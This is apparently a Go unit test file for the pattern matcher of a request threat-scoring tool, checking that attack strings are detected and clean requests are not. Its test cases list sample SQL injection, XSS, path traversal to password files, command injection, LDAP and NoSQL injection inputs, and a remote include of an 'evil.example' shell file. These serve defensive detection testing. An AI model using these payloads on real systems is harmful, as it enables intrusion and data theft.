// Aegis - Real-time Request Threat Scoring and Incident Response
// Copyright 2026 Tom F. (tomtom215)
// SPDX-License-Identifier: AGPL-3.0-or-later
// https://github.com/tomtom215/aegis

package threat

import (
	"reflect"
	"testing"
)

func TestPatternMatcher_CleanRequestYieldsAllZeroMap(t *testing.T) {
	t.Parallel()

	m := NewPatternMatcher(0)
	got := m.Match(&RequestSignal{
		URL:        "/api/appointments?date=2026-03-01&id=42",
		Query:      "date=2026-03-01&id=42",
		BodySample: `{"clientName":"Jane Doe","service":"Hydrafacial","notes":"prefers mornings"}`,
		Headers:    map[string]string{"User-Agent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_0)"},
	})

	if len(got) != len(Categories) {
		t.Fatalf("expected %d categories, got %d: %v", len(Categories), len(got), got)
	}
	for _, cat := range Categories {
		if n, ok := got[cat]; !ok || n != 0 {
			t.Errorf("category %s = %d (present=%v), want 0", cat, n, ok)
		}
	}
}

func TestPatternMatcher_SQLInjectionAndTraversal(t *testing.T) {
	t.Parallel()

	m := NewPatternMatcher(0)
	sig := &RequestSignal{
		URL:        "/api/files/../../etc/passwd",
		BodySample: `{"username":"admin' OR '1'='1"}`,
	}
	got := m.Match(sig)

	want := map[Category]int{
		CategorySQLInjection:     1,
		CategoryXSS:              0,
		CategoryPathTraversal:    1,
		CategoryCommandInjection: 0,
		CategoryFileInclusion:    0,
		CategoryLDAPInjection:    0,
		CategoryNoSQLInjection:   0,
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("Match() = %v, want %v", got, want)
	}
}

func TestPatternMatcher_Idempotent(t *testing.T) {
	t.Parallel()

	m := NewPatternMatcher(0)
	sig := &RequestSignal{
		URL:        "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
		BodySample: `{"filter":{"$where":"this.password == 'x'"}}`,
	}
	first := m.Match(sig)
	second := m.Match(sig)
	if !reflect.DeepEqual(first, second) {
		t.Errorf("matching is not idempotent: %v vs %v", first, second)
	}
}

func TestPatternMatcher_Categories(t *testing.T) {
	t.Parallel()

	tests := []struct {
		name string
		text string
		cat  Category
	}{
		{"union select", "id=1 UNION ALL SELECT password FROM users", CategorySQLInjection},
		{"stacked drop", "name=x'; DROP TABLE clients", CategorySQLInjection},
		{"time based", "id=1 AND SLEEP(5)", CategorySQLInjection},
		{"script tag", "<SCRIPT>alert(1)</SCRIPT>", CategoryXSS},
		{"event handler", `<img src=x onerror=alert(1)>`, CategoryXSS},
		{"javascript uri", "href=JavaScript:alert(1)", CategoryXSS},
		{"encoded dot dot", "/static/%2e%2e%2fconfig", CategoryPathTraversal},
		{"windows path", `c:\windows\system32\cmd`, CategoryPathTraversal},
		{"chained command", "host=example.com; cat /etc/hosts", CategoryCommandInjection},
		{"subshell", "name=$(whoami)", CategoryCommandInjection},
		{"php wrapper", "page=php://filter/resource=index", CategoryFileInclusion},
		{"remote include", "page=http://evil.example/shell.txt", CategoryFileInclusion},
		{"ldap wildcard", "user=*)(uid=*))(|(uid=*", CategoryLDAPInjection},
		{"mongo operator", `{"password":{"$ne":null}}`, CategoryNoSQLInjection},
		{"query operator", "password[$ne]=x", CategoryNoSQLInjection},
	}

	m := NewPatternMatcher(0)
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			got := m.MatchText(tt.text)
			if got[tt.cat] == 0 {
				t.Errorf("expected %s match for %q, got %v", tt.cat, tt.text, got)
			}
		})
	}
}

func TestPatternMatcher_CountsEveryCategory(t *testing.T) {
	t.Parallel()

	m := NewPatternMatcher(0)
	got := m.MatchText(`<script>x</script> ' OR 'a'='a ../../etc/shadow`)
	for _, cat := range []Category{CategoryXSS, CategorySQLInjection, CategoryPathTraversal} {
		if got[cat] == 0 {
			t.Errorf("expected %s to be counted, got %v", cat, got)
		}
	}
}

func TestPatternMatcher_BlobCapped(t *testing.T) {
	t.Parallel()

	m := NewPatternMatcher(16)
	got := m.MatchText("aaaaaaaaaaaaaaaaaaaaaaaa<script>")
	if got[CategoryXSS] != 0 {
		t.Errorf("expected text beyond the cap to be ignored, got %v", got)
	}
}
